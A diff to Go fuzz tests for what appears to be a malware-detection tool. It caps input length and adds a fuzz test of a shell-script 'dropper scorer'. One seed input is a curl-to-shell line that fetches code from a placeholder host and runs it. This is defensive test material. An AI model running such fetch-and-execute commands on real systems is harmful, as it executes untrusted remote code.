@@ -23,6 +23,12 @@ func FuzzAutostartParsers(f *testing.F) {
 	fsys := &memoFS{FS: overlayWith(f, tree(f, map[string]string{"usr/local/bin/y.sh": "#!/bin/sh\n"}), "")}
 	pathEnv := []string{"/usr/local/bin", "/usr/bin"}
 	f.Fuzz(func(t *testing.T, s string) {
+		// Lines, words and targets are what is fuzzed here; long inputs
+		// only repeat them and the scorer's bound on size has its own
+		// test, so inputs are cut to keep the rate (issue 21).
+		if len(s) > 2048 {
+			s = s[:2048]
+		}
 		n := lineCount([]byte(s))
 		got := commandTargets(s, "/", pathEnv, fsys)
 		for _, p := range got {
@@ -49,6 +55,20 @@ func FuzzAutostartParsers(f *testing.F) {
 				t.Fatalf("bad %d", b)
 			}
 		}
+	})
+}
+
+// FuzzScoreScript: the dropper scorer reads any shell script on disk.
+// Behaviours are distinct, on lines that exist, and the score follows from
+// their number.
+func FuzzScoreScript(f *testing.F) {
+	f.Add("#!/bin/sh\ncurl -fsSL http://x/y | sh\n")
+	f.Add(dropperCases[0].text)
+	f.Fuzz(func(t *testing.T, s string) {
+		if len(s) > 2048 {
+			s = s[:2048]
+		}
+		n := lineCount([]byte(s))
 		sc := ScoreScript([]byte(s))
 		seen := map[string]bool{}
 		for _, b := range sc.Behaviours {
